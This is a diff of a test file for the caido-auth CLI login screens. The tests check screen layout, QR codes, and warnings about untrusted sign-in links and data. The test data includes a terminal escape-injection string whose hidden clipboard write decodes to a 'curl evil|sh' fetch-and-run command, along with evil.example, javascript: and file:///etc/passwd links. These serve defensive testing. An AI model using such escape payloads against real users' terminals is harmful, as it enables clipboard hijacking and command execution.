@@ -1,5 +1,6 @@
-import { render } from "ink-testing-library";
-import { afterEach, describe, expect, it } from "vitest";
+// Every login screen as the screen draws it (login-frame.tsx: LoginScreen laid out by Ink):
+// what it says in each phase, how it shows hostile strings, and where the link goes.
+import { describe, expect, it } from "vitest";
 import { CancelledError } from "../../source/errors.js";
 import {
   claimed,
@@ -10,36 +11,23 @@ import {
 } from "../../source/instance/errors.js";
 import type { LoginState } from "../../source/session/device-flow.js";
 import { CODE_MAX } from "../../source/ui/format.js";
-import { LoginApp } from "../../source/ui/LoginApp.js";
 import { decodeQrFromText } from "./_qr-decode.js";
-import { appProps, expired, plain, recorder, succeeded, tick, URL_, waiting } from "./_screen.js";
+import { expired, frameOf, plain, screenProps, succeeded, URL_, waiting } from "./_screen.js";
 
 const instance = "http://127.0.0.1:8080";
 const failed = (error: Error): LoginState =>
   ({ phase: "failed", interactive: true, attempt: 1, error }) as LoginState;
 
-const mounted: { unmount(): void }[] = [];
-function show(props: ReturnType<typeof appProps>) {
-  const r = render(<LoginApp {...props} />);
-  mounted.push(r);
-  return r;
-}
-afterEach(() => {
-  for (const r of mounted.splice(0)) r.unmount();
-});
-
-describe("LoginApp screens", () => {
+describe("login screens", () => {
   it("starting", () => {
-    const f = plain(
-      show(appProps({ phase: "starting", interactive: true, attempt: 1 })).lastFrame(),
-    );
+    const f = plain(frameOf(screenProps({ phase: "starting", interactive: true, attempt: 1 })));
     expect(f).toContain("Logging in to http://127.0.0.1:8080 (Caido 0.56.0)");
     expect(f).toContain("Requesting a login code");
     expect(f).toContain("q quit");
   });
 
   it("waiting on 80x24: code, link, countdown, keys and a QR that scans", () => {
-    const frame = show(appProps(waiting())).lastFrame()!;
+    const frame = frameOf(screenProps(waiting()));
     const f = plain(frame);
     expect(f).toContain("A B C D - E F G H");
     expect(f).toContain(URL_);
@@ -54,18 +42,18 @@ describe("LoginApp screens", () => {
 
   it("shows browser status", () => {
     const failedOpen = waiting({ browser: { status: "failed", reason: "xdg-open missing" } });
-    expect(plain(show(appProps(failedOpen)).lastFrame())).toContain(
+    expect(plain(frameOf(screenProps(failedOpen)))).toContain(
       "Could not open a browser (xdg-open missing)",
     );
     const opened = waiting({ browser: { status: "opened" } });
-    expect(plain(show(appProps(opened)).lastFrame())).toContain("Opened in your browser.");
+    expect(plain(frameOf(screenProps(opened)))).toContain("Opened in your browser.");
   });
 
   it("warns when the verification host is not Caido's", () => {
     const state = waiting({
       request: { ...waiting().request, verificationUrl: "https://evil.example/d" },
     } as never);
-    const f = plain(show(appProps(state)).lastFrame());
+    const f = plain(frameOf(screenProps(state)));
     expect(f).toContain("Warning: the sign-in page is on evil.example");
   });
 
@@ -73,12 +61,12 @@ describe("LoginApp screens", () => {
     const state = waiting({
       request: { ...waiting().request, verificationUrl: "https://auth.corp/d" },
     } as never);
-    const f = plain(show(appProps(state, { cloudUrl: "https://auth.corp" })).lastFrame());
+    const f = plain(frameOf(screenProps(state, { cloudUrl: "https://auth.corp" })));
     expect(f).not.toContain("Warning");
   });
 
   it("narrow 40 columns: wraps, drops the QR with a note", () => {
-    const f = plain(show(appProps(waiting(), { columns: 40 })).lastFrame());
+    const f = plain(frameOf(screenProps(waiting(), { columns: 40 })));
     expect(f).toContain("A B C D - E F G H");
     expect(f.replace(/\n/g, " ")).toContain("Enlarge the terminal to 65x24 for a QR code.");
     expect(f).not.toMatch(/[█▀▄]/);
@@ -86,18 +74,18 @@ describe("LoginApp screens", () => {
   });
 
   it("QR below the text on a tall narrow terminal", () => {
-    const f = plain(show(appProps(waiting(), { columns: 40, rows: 40 })).lastFrame());
+    const f = plain(frameOf(screenProps(waiting(), { columns: 40, rows: 40 })));
     expect(decodeQrFromText(f.split("\n"))).toBe(URL_);
   });
 
   it("--no-qr", () => {
-    const f = plain(show(appProps(waiting(), { qr: false })).lastFrame());
+    const f = plain(frameOf(screenProps(waiting(), { qr: false })));
     expect(f).toContain("QR code off (--no-qr).");
     expect(f).not.toMatch(/[█▀▄]/);
   });
 
   it("NO_COLOR: no colour codes, no QR, no hyperlink, a note", () => {
-    const frame = show(appProps(waiting(), { color: false, hyperlinks: false })).lastFrame()!;
+    const frame = frameOf(screenProps(waiting(), { color: false, hyperlinks: false }));
     expect(frame).not.toContain("\x1b[38;5");
     expect(frame).not.toContain("\x1b]8");
     expect(frame).toContain("No QR code while NO_COLOR is set");
@@ -105,7 +93,7 @@ describe("LoginApp screens", () => {
   });
 
   it("PAT approval: no browser line, only cancel", () => {
-    const f = plain(show(appProps(waiting({ approval: "pat" }))).lastFrame());
+    const f = plain(frameOf(screenProps(waiting({ approval: "pat" }))));
     expect(f).toContain("personal access token");
     expect(f).not.toContain("o open browser");
     expect(f).not.toMatch(/[█▀▄]|QR/);
@@ -113,14 +101,14 @@ describe("LoginApp screens", () => {
   });
 
   it("expired offers r", () => {
-    const f = plain(show(appProps(expired)).lastFrame());
+    const f = plain(frameOf(screenProps(expired)));
     expect(f).toContain("Code expired");
     expect(f).toContain("Press r for a new code");
     expect(f).toContain("r new code · q quit");
   });
 
   it("success names the account, instance, file and next command", () => {
-    const f = plain(show(appProps(succeeded)).lastFrame());
+    const f = plain(frameOf(screenProps(succeeded)));
     expect(f).toContain("Logged in to http://127.0.0.1:8080 as Ada Lovelace <ada@example.com>");
     expect(f).toContain("Session saved to /home/ada/.config/caido-auth/config.json");
     expect(f).toContain("Next: caido-auth status");
@@ -137,7 +125,7 @@ describe("LoginApp screens", () => {
     ["unreachable", unreachable(instance, "ECONNREFUSED"), "Instance unreachable", "Check the URL"],
     ["cloud", cloudUnavailable(instance), "Caido cloud unreachable", "internet access"],
   ])("%s error has its heading, message and next step", (_n, error, heading, hint) => {
-    const f = plain(show(appProps(failed(error))).lastFrame());
+    const f = plain(frameOf(screenProps(failed(error))));
     expect(f).toContain(`✗ ${heading}`);
     const message = error.message.startsWith("http")
       ? error.message
@@ -153,7 +141,7 @@ describe("LoginApp screens", () => {
       attempt: 1,
       error: new CancelledError(),
     } as LoginState;
-    const f = plain(show(appProps(state)).lastFrame());
+    const f = plain(frameOf(screenProps(state)));
     expect(f).toContain("Login cancelled");
     expect(f).toContain("Nothing was stored.");
   });
@@ -169,14 +157,14 @@ const withUrl = (verificationUrl: string, over: Partial<typeof request> = {}) =>
   waiting({ request: { ...request, verificationUrl, ...over } });
 const { request } = waiting();
 
-describe("LoginApp with hostile strings", () => {
+describe("login screens with hostile strings", () => {
   const HOSTILE = "\x1b[1A\x1b[2K\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[31m\x9b2J";
   const SHOWN =
     "\\x1b[1A\\x1b[2K\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[31m\\x9b2J";
 
   it("shows escapes from the instance visibly, and the warning stays", () => {
     const state = withUrl(`https://evil.example/d?${HOSTILE}`, { userCode: `AB${HOSTILE}` });
-    const frame = show(appProps(state, { instanceVersion: `0.1${HOSTILE}` })).lastFrame()!;
+    const frame = frameOf(screenProps(state, { instanceVersion: `0.1${HOSTILE}` }));
     expect(controlsIn(frame)).toEqual([]);
     const f = plain(frame);
     const joined = f.replace(/\n/g, "");
@@ -198,12 +186,12 @@ describe("LoginApp with hostile strings", () => {
         account: { id: "a", name: `Eve${HOSTILE}`, email: `eve@x${HOSTILE}` },
       },
     } as LoginState;
-    const ok = show(appProps(hostileSuccess)).lastFrame()!;
+    const ok = frameOf(screenProps(hostileSuccess));
     expect(controlsIn(ok)).toEqual([]);
     expect(plain(ok).replace(/\n/g, "")).toContain(`Eve${SHOWN} <eve@x${SHOWN}>`);
 
     const error = new InstanceFailure("instance", `refused ${HOSTILE}`, `try ${HOSTILE}`);
-    const bad = show(appProps(failed(error))).lastFrame()!;
+    const bad = frameOf(screenProps(failed(error)));
     expect(controlsIn(bad)).toEqual([]);
     expect(plain(bad).replace(/\n/g, "")).toContain(`try ${SHOWN}`);
   });
@@ -212,7 +200,7 @@ describe("LoginApp with hostile strings", () => {
     const state = withUrl(`https://caido.io/device?c=${"a".repeat(200 * 1024)}`, {
       userCode: "B".repeat(100 * 1024),
     });
-    const frame = show(appProps(state)).lastFrame()!;
+    const frame = frameOf(screenProps(state));
     expect(frame.length).toBeLessThan(5_000);
     const f = plain(frame);
     expect(f).toContain(`${"B".repeat(CODE_MAX - 1)}…`);
@@ -223,11 +211,11 @@ describe("LoginApp with hostile strings", () => {
   });
 });
 
-describe("LoginApp links", () => {
+describe("login screen links", () => {
   const long = "http://127.0.0.1:38883/device?user_code=WBQJ-NVRD";
 
   it("80x24, a link wider than the column beside the QR: on a line of its own, whole", () => {
-    const frame = show(appProps(withUrl(long))).lastFrame()!;
+    const frame = frameOf(screenProps(withUrl(long)));
     const lines = plain(frame).split("\n");
     expect(lines.map((l) => l.trimEnd())).toContain(long);
     expect(frame).toContain(`\x1b]8;;${long}\x07`);
@@ -237,7 +225,7 @@ describe("LoginApp links", () => {
   });
 
   it("a link that fits beside the QR stays in the column", () => {
-    const lines = plain(show(appProps(withUrl(long), { columns: 100 })).lastFrame()).split("\n");
+    const lines = plain(frameOf(screenProps(withUrl(long), { columns: 100 }))).split("\n");
     const at = lines.findIndex((l) => l.startsWith(long));
     expect(at).toBeGreaterThan(0);
     // The QR code runs beside it.
@@ -246,7 +234,7 @@ describe("LoginApp links", () => {
   });
 
   it("below the size a QR needs: says so, and keeps the code and the whole link", () => {
-    const f = plain(show(appProps(withUrl(long), { columns: 60, rows: 20 })).lastFrame());
+    const f = plain(frameOf(screenProps(withUrl(long), { columns: 60, rows: 20 })));
     expect(f.split("\n").map((l) => l.trimEnd())).toContain(long);
     expect(f).toContain("A B C D - E F G H");
     expect(f).toMatch(/Enlarge the terminal to \d+x\d+ for a QR code\./);
@@ -258,7 +246,7 @@ describe("LoginApp links", () => {
     ["javascript:alert(1)//caido.io", "a javascript: URL"],
     ["caido.io/device", "not a valid URL"],
   ])("%s: the warning names it, no QR, no o key", (url, what) => {
-    const f = plain(show(appProps(withUrl(url))).lastFrame());
+    const f = plain(frameOf(screenProps(withUrl(url))));
     expect(f.replace(/\n/g, " ")).toContain(
       `Warning: the sign-in link is ${what}, not a web page on caido.io.`,
     );
@@ -266,49 +254,4 @@ describe("LoginApp links", () => {
     expect(f).not.toContain("o open browser");
     expect(f).toContain("caido-auth will not open this link: it is not a web page.");
   });
-});
-
-describe("LoginApp keys", () => {
-  async function press(state: LoginState, input: string, over = {}) {
-    const rec = recorder();
-    const r = show(appProps(state, { actions: rec.actions, ...over }));
-    await tick();
-    r.stdin.write(input);
-    await tick();
-    return { calls: rec.calls, frame: plain(r.lastFrame()) };
-  }
-
-  it("o opens the browser", async () =>
-    expect((await press(waiting(), "o")).calls).toEqual(["open"]));
-  it("o opens a warned-about page: the person has read the warning", async () =>
-    expect((await press(withUrl("https://evil.example/d"), "o")).calls).toEqual(["open"]));
-  it("o never opens a file: link", async () =>
-    expect((await press(withUrl("file:///etc/passwd"), "o")).calls).toEqual([]));
-  it("c copies no more than a code's worth of a hostile code", async () => {
-    const hostile = waiting({
-      request: { ...request, userCode: `A\x1b]0;t\x07${"B".repeat(999)}` },
-    });
-    const { calls } = await press(hostile, "c");
-    expect(calls).toEqual([`copy A\\x1b]0;t\\x07${"B".repeat(CODE_MAX - 14)}…`]);
-  });
-  it("o does nothing when no browser may be opened", async () =>
-    expect((await press(waiting(), "o", { canOpenBrowser: false })).calls).toEqual([]));
-  it("c copies the code and says so", async () => {
-    const { calls, frame } = await press(waiting(), "c");
-    expect(calls).toEqual(["copy ABCD-EFGH"]);
-    expect(frame).toContain("Code sent to your clipboard.");
-  });
-  it("r restarts once expired", async () =>
-    expect((await press(expired, "r")).calls).toEqual(["restart"]));
-  it("r does nothing while waiting", async () =>
-    expect((await press(waiting(), "r")).calls).toEqual([]));
-  it.each([
-    ["q", "q"],
-    ["Esc", "\x1b"],
-    ["Ctrl+C", "\x03"],
-  ])("%s cancels", async (_n, input) =>
-    expect((await press(waiting(), input)).calls).toEqual(["cancel"]),
-  );
-  it("q cancels when expired too", async () =>
-    expect((await press(expired, "q")).calls).toEqual(["cancel"]));
 });
